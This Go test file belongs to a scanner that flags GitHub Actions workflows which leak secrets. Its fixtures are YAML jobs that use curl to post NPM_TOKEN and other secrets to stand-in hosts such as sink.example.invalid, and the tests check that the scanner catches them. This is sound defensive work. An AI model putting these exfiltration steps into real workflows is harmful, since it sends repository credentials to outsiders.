package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"pentimento/internal/workflow"
)

// tryIn runs campaign try in a folder of files and gives what it wrote.
func tryIn(t *testing.T, files map[string]string, args ...string) (code int, out, errs string) {
	t.Helper()
	t.Chdir(t.TempDir())
	for name, text := range files {
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	var stdout, stderr bytes.Buffer
	p := &program{stdin: strings.NewReader(""), stdout: &stdout, stderr: &stderr, env: func(string) string { return "" }, clock: time.Now}
	code = p.run(t.Context(), append([]string{"campaign", "try"}, args...))
	return code, stdout.String(), stderr.String()
}

const (
	tryEvil = `on: push
jobs:
  send-secrets:
    runs-on: ubuntu-latest
    steps:
      - run: curl -s -X POST -d 'NPM_TOKEN=${{ secrets.NPM_TOKEN }}' https://sink.example.invalid
`
	tryNew = `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d 'a=${{ secrets.ONE }}&b=${{ secrets.TWO }}&c=${{ secrets.THREE }}' https://collect.example.invalid/v1/in
`
	tryPlain = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"
)

func TestTryFolder(t *testing.T) {
	files := map[string]string{
		"repo/.github/workflows/github_actions_security.yml": tryEvil,
		"repo/.github/workflows/ci.yaml":                     tryPlain,
		"repo/deploy/values.yml":                             "replicas: 3\n",
		"repo/.git/x.yml":                                    tryEvil,
		"repo/notes.txt":                                     tryEvil,
		"flat/mailed.yml":                                    tryEvil,
	}
	code, out, errs := tryIn(t, files, ".")
	if code != exitDone {
		t.Fatalf("exit %d: %s", code, errs)
	}
	for _, want := range []string{"flat/mailed.yml", "repo/.github/workflows/github_actions_security.yml", "ghostaction/form-post", "high"} {
		if !strings.Contains(out, want) {
			t.Errorf("no %q in\n%s", want, out)
		}
	}
	for _, other := range []string{"ci.yaml", "values.yml", ".git/x.yml", "notes.txt", "sink.example.invalid"} {
		if strings.Contains(out, other) {
			t.Errorf("%q stands in\n%s", other, out)
		}
	}
	if !strings.Contains(errs, "3 files judged") || !strings.Contains(errs, "2 hit with high confidence") || !strings.Contains(errs, "1 YAML files hold neither") {
		t.Errorf("said %s", errs)
	}
}

func TestTryDocument(t *testing.T) {
	code, out, errs := tryIn(t, map[string]string{"odd.txt": tryEvil, "plain.yml": tryPlain, "broken.yml": "jobs: [\n" + strings.Repeat(" ${{ secrets.A }}", 3)},
		"--json", "--campaign", "ghostaction", "odd.txt", "plain.yml", "broken.yml")
	var doc struct {
		Schema  string
		Files   []triedJSON
		Summary summaryJSON
	}
	if err := json.Unmarshal([]byte(out), &doc); err != nil || code != exitDone {
		t.Fatalf("exit %d, %v: %s", code, err, errs)
	}
	if doc.Schema != "pentimento/try/v1" || len(doc.Files) != 2 || doc.Summary.Judged != 3 || doc.Summary.High != 1 || doc.Summary.Partial != 1 {
		t.Fatalf("%+v", doc)
	}
	odd, broken := doc.Files[0], doc.Files[1]
	if odd.File != "odd.txt" || odd.Blob == nil || len(*odd.Blob) != 40 || odd.Campaign == nil || len(odd.Hits) == 0 || odd.Secrets[0] != "NPM_TOKEN" {
		t.Errorf("%+v", odd)
	}
	if broken.Partial == nil || broken.Error != nil {
		t.Errorf("%+v", broken)
	}
}

// A rule that asks for what was before is shown with what it asks for, and does not count as a hit.
func TestTryConditional(t *testing.T) {
	files := map[string]string{"new.yml": tryNew}
	code, out, errs := tryIn(t, files, "new.yml")
	if code != exitDone || !strings.Contains(out, "heuristic/secret-to-network") || !strings.Contains(out, "new-host") ||
		!strings.Contains(errs, "0 hit with high confidence") || !strings.Contains(errs, "1 only where") {
		t.Errorf("exit %d: %s\n%s", code, errs, out)
	}
	if _, out, _ = tryIn(t, files, "--json", "new.yml"); !strings.Contains(out, `"where_all": [`) || !strings.Contains(out, `"conditional": 1`) {
		t.Error(out)
	}
}

// What cannot be read is told; nothing readable is a failure.
func TestTryUnreadable(t *testing.T) {
	if code, _, errs := tryIn(t, nil, "absent.yml"); code != exitFailed || !strings.Contains(errs, "absent.yml") {
		t.Errorf("exit %d: %s", code, errs)
	}
	if code, _, errs := tryIn(t, nil); code != exitUsage {
		t.Errorf("exit %d: %s", code, errs)
	}
	if code, _, errs := tryIn(t, map[string]string{"a.yml": tryPlain}, "--campaign", "nosuch", "."); code != exitUsage {
		t.Errorf("exit %d: %s", code, errs)
	}
	large := tryEvil + "#" + strings.Repeat("x", workflow.MaxSize)
	if code, out, errs := tryIn(t, map[string]string{"large.yml": large}, "."); code != exitDone || !strings.Contains(errs, "1 files could not be read in full") {
		t.Errorf("exit %d: %s\n%s", code, errs, out)
	}
}

func TestWorkflowPath(t *testing.T) {
	for name, want := range map[string]string{
		"x.yml": ".github/workflows/x.yml", "a/b/.github/workflows/c.yaml": ".github/workflows/c.yaml", "a/action.yml": "action.yml",
		"/tmp/.github/workflows/old/.github/workflows/y.yml": ".github/workflows/y.yml",
	} {
		if got := workflowPath(name); got != want {
			t.Errorf("workflowPath(%q) = %q, want %q", name, got, want)
		}
	}
}
